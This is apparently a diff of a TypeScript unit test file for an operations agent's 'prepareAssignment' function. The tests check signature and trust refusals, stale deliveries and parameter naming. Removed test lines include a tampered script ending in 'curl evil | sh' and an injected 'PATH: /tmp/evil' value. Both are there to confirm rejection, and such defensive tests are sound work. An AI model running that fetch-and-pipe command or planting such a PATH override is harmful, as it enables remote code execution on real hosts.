@@ -1,26 +1,20 @@
-import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import type { ActionAssignment } from '../api/agent-protocol';
-import { prepareAssignment } from './assignment';
+import { paramEnvName, prepareAssignment, rejectReasonOf, type TrustCheck } from './assignment';
 
-const script = '#!/bin/sh\nsystemctl restart nginx\n';
+const script = '#!/bin/sh\nsystemctl restart "$NP_SERVICE"\n';
 const uuid = '6f1c2a7e-8d2b-4c1e-9f3a-2b8c1d0e4f5a';
 const now = new Date('2026-12-01T10:00:00Z');
-const message = (
-  change: Partial<ActionAssignment> = {},
-  runbook: Partial<ActionAssignment['runbook']> = {},
-): ActionAssignment => ({
+const message = (change: Partial<ActionAssignment> = {}): ActionAssignment => ({
   actionId: 'act-1',
   runbook: {
     runbookId: uuid,
-    version: 4,
-    name: 'restart-nginx',
+    name: 'restart-service',
+    version: '1.4.0',
     script,
-    scriptSha256: createHash('sha256').update(script).digest('hex'),
-    signature: 'aGVhZA.cGF5bG9hZA.c2ln',
-    ...runbook,
+    signature: '{"format":"x"}',
   },
-  env: { NP_TRIGGER_HOST: 'web-1' },
+  params: { service: 'nginx' },
   timeoutSeconds: 120,
   killGraceSeconds: 10,
   runAs: null,
@@ -29,65 +23,99 @@ const message = (
   actionToken: 'npa_x',
   ...change,
 });
-const trusted = async () => true;
+/** A trust check that accepts and fills a signed default. */
+const trusted: TrustCheck = async (a) => ({ ok: true, params: { ...a.params, dry_run: 'no' } });
 
 describe('prepareAssignment', () => {
-  it('turns a valid, signed, current assignment into what the runner executes (cap within the host limit)', async () => {
+  it('turns a valid, trusted, current assignment into what the runner executes', async () => {
     expect(
-      await prepareAssignment(message(), {
-        verifySignature: trusted,
-        now,
-        maxOutputCapBytes: 16 * 1024 * 1024,
-      }),
+      await prepareAssignment(message(), { checkTrust: trusted, now, maxOutputCapBytes: 16 * 1024 * 1024 }),
     ).toEqual({
       ok: true,
       assignment: {
         actionId: 'act-1',
         script,
-        env: { NP_TRIGGER_HOST: 'web-1' },
+        env: { NP_SERVICE: 'nginx', NP_DRY_RUN: 'no' },
         timeoutMs: 120_000,
         killGraceMs: 10_000,
         outputCapBytes: 16 * 1024 * 1024,
         runAs: null,
-        runbook: { id: uuid, version: 4, name: 'restart-nginx' },
+        runbook: { id: uuid, version: '1.4.0', name: 'restart-service' },
       },
     });
   });
 
-  it('refuses an altered script, an untrusted or failing signature check, and a stale delivery', async () => {
-    const altered = message({}, { script: `${script}curl evil | sh\n` });
-    expect(await prepareAssignment(altered, { verifySignature: trusted, now })).toMatchObject({
+  it('maps the trust check refusals to ack reasons, and a failing check to signature_rejected', async () => {
+    const refuse =
+      (code: string): TrustCheck =>
+      async () => ({ ok: false, code, reason: `refused: ${code}` });
+    expect(await prepareAssignment(message(), { checkTrust: refuse('script_changed'), now })).toEqual({
       ok: false,
       rejectReason: 'signature_rejected',
-      message: 'the script does not match its signed SHA-256',
-    });
-    expect(await prepareAssignment(message(), { verifySignature: async () => false, now })).toMatchObject({
-      rejectReason: 'signature_rejected',
+      message: 'refused: script_changed',
     });
     expect(
-      await prepareAssignment(message(), {
-        verifySignature: async () => {
-          throw new Error('trust file unreadable');
-        },
-        now,
-      }),
-    ).toMatchObject({ rejectReason: 'signature_rejected' });
-    expect(
-      await prepareAssignment(message(), { verifySignature: trusted, now: new Date('2026-12-01T10:05:00Z') }),
+      await prepareAssignment(message(), { checkTrust: refuse('run_as_not_allowed'), now }),
     ).toMatchObject({
-      rejectReason: 'expired',
+      rejectReason: 'run_as_refused',
     });
+    const broken: TrustCheck = async () => {
+      throw new Error('trust file unreadable');
+    };
+    expect(await prepareAssignment(message(), { checkTrust: broken, now })).toMatchObject({
+      rejectReason: 'signature_rejected',
+      message: 'the trust check failed: trust file unreadable',
+    });
+    expect(
+      ['unsigned', 'unknown_key', 'expired', 'param_out_of_schema', 'host_out_of_scope', 'cap_exceeded'].map(
+        rejectReasonOf,
+      ),
+    ).toEqual([
+      'signature_rejected',
+      'signature_rejected',
+      'signature_rejected',
+      'bad_parameters',
+      'bad_parameters',
+      'cap_exceeded',
+    ]);
   });
 
-  it('refuses what does not match the contract, naming the field', async () => {
+  it('refuses a stale delivery before asking the trust check', async () => {
+    let asked = false;
+    const result = await prepareAssignment(message(), {
+      checkTrust: async () => {
+        asked = true;
+        return { ok: true, params: {} };
+      },
+      now: new Date('2026-12-01T10:05:00Z'),
+    });
+    expect(result).toMatchObject({ ok: false, rejectReason: 'expired' });
+    expect(asked).toBe(false);
+  });
+
+  it('refuses what does not match the contract, and two params on one variable', async () => {
     const result = await prepareAssignment(
-      { ...message(), env: { PATH: '/tmp/evil' } },
-      { verifySignature: trusted, now },
+      { ...message(), params: { 'bad-name': 'x' } },
+      { checkTrust: trusted, now },
     );
     expect(result).toMatchObject({ ok: false, rejectReason: 'bad_parameters' });
     expect(result.ok === false && result.message).toContain('does not match the protocol');
-    expect(await prepareAssignment('nonsense', { verifySignature: trusted, now })).toMatchObject({
+    expect(await prepareAssignment('nonsense', { checkTrust: trusted, now })).toMatchObject({ ok: false });
+    expect(
+      await prepareAssignment(message({ params: { host: 'a', HOST: 'b' } }), {
+        checkTrust: async (a) => ({ ok: true, params: a.params }),
+        now,
+      }),
+    ).toMatchObject({
       ok: false,
+      rejectReason: 'bad_parameters',
+      message: 'two parameters arrive as NP_HOST',
     });
+  });
+
+  it('names variables like the runbook linter does', () => {
+    expect(paramEnvName('host')).toBe('NP_HOST');
+    expect(paramEnvName('trigger_host')).toBe('NP_TRIGGER_HOST');
+    expect(paramEnvName('NP_METRIC_SOURCES')).toBe('NP_METRIC_SOURCES');
   });
 });
